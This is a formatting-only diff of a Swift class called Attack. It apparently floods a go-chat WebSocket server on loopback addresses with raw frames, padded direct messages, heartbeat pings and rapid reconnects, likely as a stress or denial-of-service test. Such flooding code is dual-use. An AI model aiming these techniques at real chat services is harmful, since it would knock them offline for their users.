@@ -108,12 +108,14 @@ final class Attack {
         self.tokenFrom = try address("127.0.0.4")
 
         var heartbeat = ChatMessage()
-        heartbeat.type = "heatbeat"   // sic: what go-chat's client sends (PROTOCOL.md §3)
+        heartbeat.type = "heatbeat"  // sic: what go-chat's client sends (PROTOCOL.md §3)
         heartbeat.content = "ping"
         var text = ByteBuffer()
         Wire.writeDirectMessage(
-            to: Array("\(settings.tag)offline".utf8), content: Array(repeating: UInt8(ascii: "t"), count: 125),
-            contentType: 1, into: &text
+            to: Array("\(settings.tag)offline".utf8),
+            content: Array(repeating: UInt8(ascii: "t"), count: 125),
+            contentType: 1,
+            into: &text
         )
         let ping = ByteBuffer(repeating: UInt8(ascii: "p"), count: 125)
         let beat = ByteBuffer(bytes: try heartbeat.serializedBytes() as [UInt8])
@@ -194,7 +196,10 @@ final class Attack {
         let id = makeID()
         let me = NIOLoopBound(self, eventLoop: loop)
         WebSocketClient.connect(
-            on: loop, url: settings.url, token: token("\(settings.tag)n\(k)"), localAddress: floodFrom,
+            on: loop,
+            url: settings.url,
+            token: token("\(settings.tag)n\(k)"),
+            localAddress: floodFrom,
             receiveBufferSize: 1024
         ) { channel in
             try channel.syncOptions?.setOption(.autoRead, value: false)
@@ -207,7 +212,7 @@ final class Attack {
                 },
                 onInactive: { attack.floodGone(id: id, k: k) }
             )
-            try channel.pipeline.syncOperations.addHandler(handler, position: .first)   // raw frames, past the encoder
+            try channel.pipeline.syncOperations.addHandler(handler, position: .first)  // raw frames, past the encoder
             attack.floods[id] = handler
         }
         .assumeIsolated()
@@ -303,7 +308,8 @@ final class Attack {
         counts.reconnectAttempts += 1
         let id = makeID()
         let me = NIOLoopBound(self, eventLoop: loop)
-        WebSocketClient.connect(on: loop, url: settings.url, token: token("\(settings.tag)r"), localAddress: tokenFrom) { channel in
+        WebSocketClient.connect(on: loop, url: settings.url, token: token("\(settings.tag)r"), localAddress: tokenFrom) {
+            channel in
             try channel.pipeline.syncOperations.addHandler(QuietHandler(onInactive: { _ = me.value.gone(id) }))
         }
         .assumeIsolated()
@@ -318,7 +324,7 @@ final class Attack {
                 self.loop.execute { me.value.reconnect() }
             case .failure(let error):
                 self.counts.reconnectErrors[Self.describe(error), default: 0] += 1
-                self.later(.milliseconds(10)) { self.reconnect() }   // no answer at all: do not spin
+                self.later(.milliseconds(10)) { self.reconnect() }  // no answer at all: do not spin
             }
         }
     }
